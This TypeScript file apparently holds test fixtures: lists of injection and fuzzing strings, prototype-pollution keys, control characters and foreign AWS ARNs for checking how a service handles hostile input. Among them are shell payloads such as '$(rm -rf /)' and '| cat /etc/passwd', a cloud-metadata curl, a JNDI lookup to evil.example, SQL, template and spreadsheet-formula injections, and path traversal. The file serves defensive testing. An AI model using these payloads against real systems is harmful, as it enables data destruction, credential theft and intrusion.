/** Texts that mean something to somebody: browsers, shells, loggers, templates, queries, spreadsheets, terminals. */
export const injections: readonly string[] = [
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '&lt;b&gt;',
    '<!--',
  ],
  ...[
    '$(rm -rf /)',
    '`id`',
    '; shutdown -h now',
    '| cat /etc/passwd',
    '&& curl http://169.254.169.254/',
    '$IFS',
  ],
  ...['$' + '{jndi:ldap://evil.example/a}', '$' + '{AWS::AccountId}', '$' + '{process.env.PATH}', '#{7*7}'],
  ...[
    "{{constructor.constructor('return process')()}}",
    '{{7*7}}',
    '{% raw %}',
    '%n%s%x%p',
    '%00',
    '%2e%2e%2f',
  ],
  ...["'; DROP TABLE HistoryTable;--", "' OR '1'='1", '#a', ':v', '#hash = :hash', ':prefix', ':revision'],
  ...[
    'attribute_not_exists(pk)',
    'SET revision = :r',
    'begins_with(sk, :prefix)',
    'pk = :pk AND sk >= :from',
  ],
  ...[
    '../../etc/passwd',
    '..',
    '.',
    '..%2f..%2f',
    '..\\..\\',
    '/',
    '//evil.example',
    'file:///etc/passwd',
    '\\\\x\\y',
  ],
  ...[
    "=cmd|' /C calc'!A0",
    '@SUM(1)',
    '+1',
    '-1',
    '\r\nSubject: forged\r\n\r\n',
    '\u001b]0;owned\u0007',
    '\u001b[2J',
  ],
  ...[
    'https://evil.example/?a=b#c',
    '*',
    '?',
    '+/#',
    '$aws/things/pump-1/shadow/update',
    '$share/g/#',
    'a b',
    ' a',
  ],
  ...[
    'null',
    'undefined',
    'NaN',
    'true',
    '[object Object]',
    'Infinity',
    '{"$ne":null}',
    '[]',
    '{}',
    "'",
    '"',
    '\\',
  ],
];

export const prototypeWords: readonly string[] = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf'],
  ...['__defineGetter__', '__lookupSetter__', 'then', 'toJSON', 'length', 'name', 'caller', 'arguments'],
];

/** What moves a cursor, ends a text or can't be seen. */
export const controls: readonly string[] = [
  ...['\u0000', '\u0007', '\u0008', '\u000b', '\u001b', '\u007f', '\u0085', '\u009b', '\u2028', '\u2029'],
];

export const arnsOf = (accountId: string): readonly string[] => [
  `arn:aws:iot:us-east-1:${accountId}:thing/pump-1`,
  'arn:aws:iot:us-east-1:999999999999:thing/pump-1',
  'arn:aws:iot:us-east-1:999999999999:cert/0',
  'arn:aws:iam::999999999999:role/Admin',
  `arn:aws:sns:us-east-1:${accountId}:ops`,
  `arn:aws:iot:us-east-1:${accountId}:thinggroup/Quarantine`,
  'arn:aws:iot:::',
  'arn:',
];
